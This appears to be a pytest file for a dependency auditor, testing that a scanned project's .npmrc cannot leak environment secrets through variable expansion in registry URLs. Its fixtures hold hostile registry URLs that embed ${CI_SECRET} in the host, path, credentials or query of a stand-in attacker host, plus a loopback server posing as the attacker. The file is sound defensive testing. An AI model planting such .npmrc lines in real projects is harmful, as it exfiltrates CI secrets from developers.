"""A scanned project's .npmrc never sends this machine's environment anywhere (issue 28).

By default only the user's and the machine's npm configuration is read; the project's with
`--trust-target-config`, and even then a `${VAR}` in its registry URL is refused wherever it
sits. In the user's own file, a variable steering the host or path is said on stderr;
`auditor doctor` prints the URL as written, never a variable's value.
"""

from __future__ import annotations

import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditor.endpoints import npm, npm_scopes

SECRET = "s3cr3t-ci-value"


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    return {"HOME": str(tmp_path / "home"), "PATH": str(tmp_path / "bin"),
            "npm_config_globalconfig": str(tmp_path / "global-npmrc"),
            "CI_SECRET": SECRET} | extra  # fmt: skip


# Where a hostile project puts the variable: host, path, user:password, query, the whole URL.
SHAPES = st.sampled_from(
    [
        "https://${CI_SECRET}.attacker.invalid/",
        "https://attacker.invalid/${CI_SECRET}/",
        "https://x:${CI_SECRET}@attacker.invalid/",
        "https://${CI_SECRET}@attacker.invalid/",
        "https://attacker.invalid/npm?t=${CI_SECRET}",
        "${CI_SECRET}",
        "http://127.0.0.1:9/${CI_SECRET}",
        "http://localhost:9/${CI_SECRET}",
        '"https://attacker.invalid/${CI_SECRET}"',
    ]
)
KEYS = st.sampled_from(["registry", "@corp:registry", "@evil:registry"])


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(shape=SHAPES, key=KEYS, spacing=st.sampled_from(["=", " = ", "= "]))
def test_project_npmrc_never_expands_into_a_url(
    tmp_path: Path, shape: str, key: str, spacing: str
) -> None:
    project = tmp_path / "project"
    project.mkdir(exist_ok=True)
    (project / ".npmrc").write_text(f"{key}{spacing}{shape}\n")
    (tmp_path / "global-npmrc").write_text("registry=https://machine.invalid/\n")
    env = _env(tmp_path)
    for trusted in (None, project):
        found = [npm(None, env, trusted), *npm_scopes(env, trusted).values()]
        assert all(SECRET not in e.url and SECRET not in e.shown for e in found)
        assert npm(None, env, trusted).url == "https://machine.invalid"


def test_project_npmrc_read_only_when_trusted(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / ".npmrc").write_text(
        "registry=https://project.invalid/\n@corp:registry=https://c.invalid\n"
    )
    (tmp_path / "global-npmrc").write_text("registry=https://machine.invalid/\n")
    env = _env(tmp_path)
    assert npm(None, env).url == "https://machine.invalid"
    assert npm_scopes(env) == {}
    assert npm(None, env, project).url == "https://project.invalid"
    assert set(npm_scopes(env, project)) == {"@corp"}


def test_user_npmrc_expansion_into_a_remote_host_is_said(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".npmrc").write_text(
        "registry=https://${MIRROR_HOST}/npm/\n@corp:registry=https://${CI_SECRET}@corp.invalid/\n"
    )
    env = _env(tmp_path, MIRROR_HOST="mirror.invalid")
    with caplog.at_level(logging.WARNING, "auditor.endpoints"):
        found = npm(None, env)
        scopes = npm_scopes(env)
    assert found.url == "https://mirror.invalid/npm"
    assert found.shown == "https://${MIRROR_HOST}/npm/"
    assert "${MIRROR_HOST} expanded into the registry URL's host or path" in caplog.text
    assert scopes["@corp"].url == f"https://{SECRET}@corp.invalid"  # credentials: as npm does
    assert "CI_SECRET" not in caplog.text and SECRET not in caplog.text


OVERRIDES = ("AUDITOR_NPM_REGISTRY", "AUDITOR_PYPI_URL", "npm_config_registry",
             "NPM_CONFIG_REGISTRY", "npm_config_userconfig", "NPM_CONFIG_USERCONFIG")  # fmt: skip


def _auditor(*args: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k not in OVERRIDES}
    return subprocess.run(
        [sys.executable, "-m", "auditor", *args], capture_output=True, text=True, cwd=cwd,
        env={**base, **env, "PYTHONPATH": str(Path(__file__).parents[2])}, check=False,
    )  # fmt: skip


def test_doctor_prints_variables_not_their_values(tmp_path: Path) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".npmrc").write_text("registry=http://127.0.0.1:9/${CI_SECRET}/\n")
    project = tmp_path / "hostile"
    project.mkdir()
    (project / ".npmrc").write_text("registry=https://attacker.invalid/${CI_SECRET}\n")
    done = _auditor("doctor", env=_env(tmp_path, PIP_INDEX_URL="http://127.0.0.1:9/simple"),
                    cwd=project)  # fmt: skip
    assert "127.0.0.1:9/${CI_SECRET}" in done.stdout, done.stdout
    assert SECRET not in done.stdout + done.stderr
    assert "attacker" not in done.stdout + done.stderr


def test_scan_of_a_hostile_folder_never_asks_its_registry(tmp_path: Path) -> None:
    """The whole scan: a lockfile and an .npmrc pointing at a loopback 'attacker' that
    records what arrives; nothing may arrive, trusted or not."""
    from tests.servers import StateServer, running
    from tests.trust.test_redirect_credentials import State, _Handler

    attacker = State()
    with running(StateServer(_Handler, attacker)) as (url,):
        project = tmp_path / "hostile"
        project.mkdir()
        (project / ".npmrc").write_text(f"registry={url}/${{CI_SECRET}}/\n")
        (project / "package-lock.json").write_text(
            '{"name": "x", "lockfileVersion": 3, "packages": {"": {"name": "x"},'
            ' "node_modules/left-pad": {"version": "1.3.0"}}}'
        )
        (tmp_path / "global-npmrc").write_text("registry=http://127.0.0.1:9/\n")
        for extra in ((), ("--trust-target-config",)):
            done = _auditor("scan", str(project), "--no-store", "-f", "json", *extra,
                            env=_env(tmp_path), cwd=project)  # fmt: skip
            assert done.returncode in (0, 1, 3), done.stderr
            assert SECRET not in done.stdout + done.stderr
    assert attacker.seen == []
    assert "refused: ${CI_SECRET}" in done.stderr


def test_npms_own_answer_is_asked_outside_the_scanned_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`npm config get registry` reads the .npmrc of the folder it runs in; a stand-in npm
    that answers from the working directory shows where it was run."""
    import stat

    tool = tmp_path / "bin" / "npm"
    tool.parent.mkdir()
    tool.write_text(
        "#!/bin/sh\nif [ -f .npmrc ]; then echo https://from-the-scanned-folder.invalid/;"
        " else echo https://npm-default.invalid/; fi\n"
    )
    tool.chmod(tool.stat().st_mode | stat.S_IXUSR)
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    (hostile / ".npmrc").write_text("registry=https://attacker.invalid/${CI_SECRET}/\n")
    monkeypatch.chdir(hostile)
    found = npm(None, _env(tmp_path))
    assert (found.url, found.source) == ("https://npm-default.invalid", "npm config get registry")
